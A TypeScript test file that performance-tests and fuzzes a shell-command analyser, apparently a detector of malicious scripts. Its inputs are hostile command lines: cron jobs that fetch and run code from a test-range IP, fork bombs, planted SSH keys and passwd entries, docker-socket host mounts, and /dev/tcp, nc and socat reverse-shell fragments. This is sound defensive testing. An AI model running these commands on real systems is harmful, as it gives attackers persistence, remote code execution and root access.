import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandClues } from '../../../test/support/command-clues.ts';
import { seededRandom } from '../../../test/support/random.ts';

const SECONDS = 30;

function inTime(script: string): void {
  const started = performance.now();
  commandClues(script, { path: 'run.sh' });
  const seconds = (performance.now() - started) / 1_000;
  assert.ok(seconds < SECONDS, `${seconds} s for ${script.slice(0, 60)}`);
}

test('scripts that are made to be slow to judge', () => {
  const many = (line: string, count: number): string => `${line}\n`.repeat(count);
  const blank = ' '.repeat(8_000);
  inTime(many(`sed -i '$a${blank}' /etc/crontab`, 500));
  inTime(many(`sed -i 'a ${'a '.repeat(4_000)}' /mnt/etc/crontab`, 500));
  inTime(many('a | sh', 9_000));
  inTime(`a ${'| sh '.repeat(5_000)}`);
  inTime(many('echo "* * * * * curl http://192.0.2.1/$RANDOM | sh" >> /mnt/etc/crontab', 3_000));
  inTime(
    Array.from({ length: 2_000 }, (_, at) => `echo '* * * * * f() { f | f & }; f ${at}' >> /mnt/etc/cron.d/${at}`).join(
      '\n',
    ),
  );
  inTime(many(`/${'a/'.repeat(7_000)}b`, 500));
  inTime(`git clone http://192.0.2.1/x /tmp/x\n${many(`/${'a/'.repeat(7_000)}b`, 300)}`);
  inTime(many(`echo 'ssh-rsa ${blank}AAAA' >> ~/.ssh/authorized_keys`, 500));
  inTime(many(`awk '/inet/ ${'a'.repeat(8_000)} |& getline'`, 500));
  inTime(many(`./x -o ${'a'.repeat(4_000)} -u ${'4'.repeat(4_000)} ${'--algo=rx/0 '.repeat(200)}`, 300));
  inTime(
    many(`curl -d '${'"Binds" : [ '.repeat(800)}' http://localhost/containers/create --unix-socket docker.sock`, 300),
  );
  inTime(many(`echo 'a:${'x'.repeat(7_000)}:0:0::' >> /etc/passwd`, 300));
  inTime(many('$(curl http://192.0.2.1/x)', 5_000));
});

test('nothing escapes, whatever the pieces', () => {
  const random = seededRandom(Number(process.env.FUZZ_SEED ?? 1));
  const pieces =
    'curl|http://192.0.2.1/x|wget|-O|-|;|/tmp/x|sh|bash|-c|"$(|)"|eval|<(|>>|>|/mnt/etc/crontab|* * * * *|crontab|nc|-e|exec|5<>/dev/tcp/a/1|<&5|>&5|tee|-a|sed|-i|$a x|docker|run|-v|/:/mnt|chroot|/mnt|\n|&&|&|$x|x=|kill|-9|ps|grep|xmrig|chattr|LD_PRELOAD=/tmp/x|export|at|now|git|clone|tftp|-r|socat|EXEC:sh|tcp:a:1|mount|/dev/sda1|\ufffc|[|{|}|ztcp|-a|[kworker'.split(
      '|',
    );
  for (let round = 0; round < 1_500; round++) {
    const parts = Array.from({ length: 1 + random.below(25) }, () => random.pick([...pieces, '|']));
    for (const clue of commandClues(parts.join(' '))) {
      assert.ok((clue.evidence.excerpt?.length ?? 0) <= 200 && clue.does.length < 2_000);
    }
  }
});
